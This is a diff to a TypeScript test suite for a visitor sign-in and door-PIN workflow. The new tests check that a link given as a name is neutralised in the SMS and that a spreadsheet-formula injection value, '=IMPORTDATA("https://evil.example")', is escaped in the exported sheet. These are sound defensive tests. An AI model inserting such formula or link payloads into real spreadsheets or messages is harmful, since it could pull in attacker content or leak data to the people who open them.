@@ -231,6 +231,9 @@ const shown = (id: number, value: string, at?: number): number =>
 	decide(sandbox.store, door(id), value, at).code;
 const pinIn = (text: unknown): string => /PIN for today is (\d{4,7})\.$/.exec(String(text))?.[1] ?? 'none';
 
+/** What becomes of the first name https://evil.example/4711. */
+const LINKLESS = /^Hello httpsevilexample, your PIN for today is \d{4,7}\.$/;
+
 /** A day from today on, as a form sends it. */
 const dayIn = (days: number): string => new Date(Date.now() + days * DAY_MS).toISOString().slice(0, 10);
 /** As messages name a day. */
@@ -293,6 +296,9 @@ const scenarios: Record<string, () => Promise<void>> = {
 		expect(personBy('system_id', 'visitor-vera@visitor.example-447700900001')).toMatchObject({
 			first_name: 'Vera',
 		});
+		// A name that is a link is none in the message.
+		await submit(url, ['https://evil.example/4711', 'Guest', 'eve@visitor.example', '+44 7700 900003']);
+		expect((await message('+44 7700 900003')).text).toMatch(LINKLESS);
 		// Nobody signs in as an employee.
 		const ada = { ...personBy('email', 'ada.okafor@harbour.example') };
 		await submit(url, ['Mallory', 'Thief', 'ada.okafor@harbour.example', '+44 Malice']);
@@ -308,6 +314,8 @@ const scenarios: Record<string, () => Promise<void>> = {
 		await submit(url, ['Walter', 'Guest', 'WALTER@visitor.example', '+44-Walter']);
 		expect(pinIn((await message('+44-Walter')).text)).toBe(pin);
 		expect(people().filter((one) => one.first_name === 'Walter')).toHaveLength(1);
+		await submit(url, ['https://evil.example/4711', 'Guest', 'eve@visitor.example', '+44 Eve']);
+		expect((await message('+44 Eve')).text).toMatch(LINKLESS);
 		await submit(url, ['Mallory', 'Thief', 'ada.okafor@harbour.example', '+44 Mallory']);
 		const mallorys = pinIn((await message('+44 Mallory')).text);
 		expect(decide(sandbox.store, door(1340), mallorys).person?.first_name).toBe('Mallory');
@@ -332,15 +340,15 @@ const scenarios: Record<string, () => Promise<void>> = {
 		const url = `${n8n.url}/form/${webhookId}`;
 		const day = dayIn(1);
 		const heads = ['First name', 'Last name', 'Email', 'Mobile'];
-		const guests = Array.from({ length: 10 }, (_, index) => [
-			`Guest${index}`,
+		const guests = Array.from('ABCDEFGHIJ', (letter, index) => [
+			`Guest${letter}`,
 			'Listed',
 			`guest${index}@list.example`,
 			`+44 7700 9100${index}0`,
 		]);
 		const handIn = async (host: string, rows: Array<Array<number | string>>): Promise<unknown> => {
 			const file = new File([spreadsheet([heads, ...rows])], 'guests.xlsx');
-			await submit(url, [file, 'Hanna Host', host, day]);
+			await submit(url, [file, 'Hanna.Host', host, day]);
 			return (await message(host)).text;
 		};
 		const syncs = (): number =>
@@ -360,7 +368,7 @@ const scenarios: Record<string, () => Promise<void>> = {
 		for (const [first, , , mobile] of guests) {
 			const pin = /Your PIN for the doors is (\d{4,7})\./.exec(await told(String(mobile)))?.[1] ?? 'none';
 			expect(await told(String(mobile))).toBe(
-				`Hello ${first}, Hanna Host expects you on ${dayInWords(day)}. Your PIN for the doors is ${pin}. It works from 08:00 to 18:00.`,
+				`Hello ${first}, HannaHost expects you on ${dayInWords(day)}. Your PIN for the doors is ${pin}. It works from 08:00 to 18:00.`,
 			);
 			const opens = ['07:59', '10:00', '18:01'].map((time) => shown(1340, pin, at(day, time)) === 11);
 			expect([first, ...opens]).toEqual([first, false, true, false]);
@@ -676,6 +684,7 @@ const scenarios: Record<string, () => Promise<void>> = {
 			[`${new Date(Date.now() - 2 * DAY_MS).toISOString().slice(0, 10)}T12:00:00Z`, 'Before Yesterday'],
 			[`${day}T00:00:00Z`, 'Zero Hour'],
 			[`${day}T18:30:00Z`, 'Yesterday Evening'],
+			[`${day}T19:30:00Z`, '=IMPORTDATA("https://evil.example")'],
 		].entries()) {
 			store.events.splice(index, 0, {
 				...store.makeEvent(11, 'Admitted: PIN', door(1340)),
@@ -692,7 +701,7 @@ const scenarios: Record<string, () => Promise<void>> = {
 		await n8n.deactivate(id);
 		expect(mail).toMatchObject({
 			files: `door-events-${day}.xlsx`,
-			text: '2 events. The spreadsheet is attached.',
+			text: '3 events. The spreadsheet is attached.',
 		});
 		const run = await n8n.executionText(await ran(id, 1));
 		const file = await storedFile(run);
@@ -709,6 +718,8 @@ const scenarios: Record<string, () => Promise<void>> = {
 			'Admitted: PIN',
 		])
 			expect([there, file.includes(there)]).toEqual([there, true]);
+		// Text that a spreadsheet would take for a formula begins with an apostrophe.
+		expect(file.toString()).toMatch(/>(?:'|&apos;|&#39;)=IMPORTDATA\(/);
 		for (const absent of ['Before Yesterday', 'Freya'])
 			expect([absent, file.includes(absent)]).toEqual([absent, false]);
 	},
